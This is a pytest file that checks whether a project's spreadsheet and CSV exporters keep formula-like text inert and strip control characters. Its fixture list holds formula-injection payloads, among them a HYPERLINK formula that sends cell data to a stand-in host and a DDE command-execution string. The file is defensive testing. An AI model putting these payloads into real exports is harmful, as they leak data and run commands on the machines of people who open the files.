"""Every sheet writer keeps text that looks like a formula as text, and survives control characters.

The writers: the streaming .xlsx and .csv writers of ``hezuo.core.tabular`` (ledger exports, and
through ``hezuo.base.export.export_rows`` every list export and the audit export), and the
openpyxl workbooks (the project ledger and quarterly report, the import error report) through
``hezuo.base.export.put``/``append``. OWASP's "CSV Injection" lists = + - @ tab and carriage
return as the characters that start a formula.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from hezuo.base import export
from hezuo.core import tabular
from hezuo.reports.exports import Sheet

#: Text a spreadsheet would run as a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1",
    "-2",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
#: What may stay as it is: numbers (a negative one too), ordinary text, dates.
PLAIN = [-2, 3.5, "合作 1-2", "a=b", date(2026, 1, 2)]
CONTROL = "bad\x01text\x0b"


def row() -> list[Any]:
    return [*FORMULAS, *PLAIN, CONTROL]


def check_xlsx(body: bytes, row_number: int = 2) -> None:
    """The workbook opens, has no formula at all, and holds the cells safely."""
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    sheet = load_workbook(io.BytesIO(body)).active
    cells = list(sheet.iter_rows(min_row=row_number, max_row=row_number))[0]
    for cell, text in zip(cells, FORMULAS, strict=False):
        assert cell.data_type == "s", text
        assert cell.value == text.replace("\r", "\n")  # XML 1.0 §2.11 reads CR as LF
        assert cell.quotePrefix, text  # stays text when edited in Excel
    numbers = cells[len(FORMULAS) : len(FORMULAS) + 2]
    assert [(c.value, c.data_type) for c in numbers] == [(-2, "n"), (3.5, "n")]
    assert cells[len(FORMULAS) + 2].value == "合作 1-2"
    assert not cells[len(FORMULAS) + 2].quotePrefix
    assert cells[-1].value == "badtext"


def test_streaming_xlsx_writer() -> None:
    out = io.BytesIO()
    tabular.write_xlsx(out, ["h"] * len(row()), [row()])
    check_xlsx(out.getvalue())
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet.cell(2, len(FORMULAS) + 5).value == datetime(2026, 1, 2)  # a real date


def test_streaming_csv_writer_quotes_and_the_reader_unquotes() -> None:
    out = io.BytesIO()
    tabular.write_csv(out, ["h"] * len(row()), [row(), ["'=typed with a quote", "'plain"]])
    text = out.getvalue().decode("utf-8-sig")
    cells = list(csv.reader(io.StringIO(text)))[1]
    # OWASP: a formula-like cell is prefixed with a single quote; numbers are not text
    assert cells[: len(FORMULAS)] == ["'" + f for f in FORMULAS]
    assert cells[len(FORMULAS) : len(FORMULAS) + 2] == ["-2", "3.5"]
    assert cells[-1] == "badtext"
    # the ledger import reads its own export back unchanged
    read = list(tabular.read_csv(io.BytesIO(out.getvalue())))
    assert read[1][: len(FORMULAS)] == FORMULAS
    assert read[2][:2] == ["'=typed with a quote", "'plain"]


def test_openpyxl_cells_through_put() -> None:
    book = Workbook()
    export.append(book.active, row())
    out = io.BytesIO()
    book.save(out)
    check_xlsx(out.getvalue(), row_number=1)


def test_project_report_sheets() -> None:
    book = Workbook()
    sheet = Sheet(book.active)
    sheet.header(["=header", "b"])
    sheet.row(row())
    sheet.title("=title\x02")
    out = io.BytesIO()
    book.save(out)
    check_xlsx(out.getvalue())
    loaded = load_workbook(io.BytesIO(out.getvalue())).active
    assert (loaded["A1"].value, loaded["A1"].data_type) == ("=header", "s")
    assert (loaded["A3"].value, loaded["A3"].data_type) == ("=title", "s")


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_list_exports(fmt: str) -> None:
    response = export.export_rows(
        None, [["h"] * len(row()), row()], fmt=fmt, basename="list", object_type="test.list"
    )
    assert response.status_code == 200
    if fmt == "xlsx":
        check_xlsx(response.content)
    else:
        cells = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1]
        assert cells[0].startswith("'=HYPERLINK") and cells[len(FORMULAS)] == "-2"


def test_content_disposition_keeps_chinese_and_japanese_names() -> None:
    assert (
        export.content_disposition("ledger-2026.xlsx") == 'attachment; filename="ledger-2026.xlsx"'
    )
    header = export.content_disposition("项目-20260102.xlsx")
    assert header == (
        'attachment; filename="__-20260102.xlsx"; '
        "filename*=UTF-8''%E9%A1%B9%E7%9B%AE-20260102.xlsx"
    )
    assert "ﾌﾟﾛｼﾞｪｸﾄ" not in export.content_disposition("プロジェクト 1.csv")
